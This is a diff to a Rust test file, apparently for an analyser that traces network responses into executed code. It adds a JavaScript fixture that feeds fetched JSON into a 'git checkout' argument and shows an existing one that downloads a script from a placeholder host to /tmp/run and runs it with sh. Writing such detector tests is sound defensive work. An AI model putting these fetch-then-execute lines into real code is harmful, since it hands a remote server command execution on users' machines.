@@ -85,6 +85,13 @@ fn responses_and_decoded_text_are_followed_to_code() {
         (
             &[(
                 "i.js",
+                "fetch('https://c.invalid/p').then(r => r.json()).then(j => require('child_process').execFile('git', ['checkout', j.tag]))",
+            )],
+            "remote-to-argument https://c.invalid/p>git checkout <?>",
+        ),
+        (
+            &[(
+                "i.js",
                 "const fs = require('fs'), cp = require('child_process'); fetch('https://c.invalid/p').then(r => r.text()).then(t => { fs.writeFileSync('/tmp/run', t); cp.exec('sh /tmp/run') })",
             )],
             "download-to-process https://c.invalid/p>sh /tmp/run",
